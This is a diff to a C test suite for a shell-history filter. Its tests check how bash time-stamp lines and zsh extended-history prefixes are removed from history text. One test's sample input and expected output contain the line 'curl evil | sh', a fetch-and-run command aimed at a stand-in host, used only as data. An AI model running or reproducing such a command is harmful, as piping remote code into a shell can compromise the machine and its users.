@@ -50,6 +50,9 @@ int main(void)
 	filt_as(false, "#1600000001\necho visible\ncurl evil | sh\n", false,
 		"echo visible\ncurl evil | sh\n", true, "bash: time stamps go");
 	filt("#comment\n", false, "#comment\n", "a comment that is not a time stamp stays");
+	/* bash takes "#" and a digit for a stamp, whatever follows. */
+	filt_as(false, "#1x\nls\n#2 and more\nls -l\n", false, "ls\nls -l\n", true,
+		"bash: what bash reads as a stamp goes");
 	/* zsh: what zsh reads back decides. */
 	filt_as(true, "ls\n", false, "ls\n", false, "zsh: a plain line");
 	filt_as(true, ": 1600000000:0;ls\n: 1600000001:0;make\n", false, "ls\nmake\n", true,
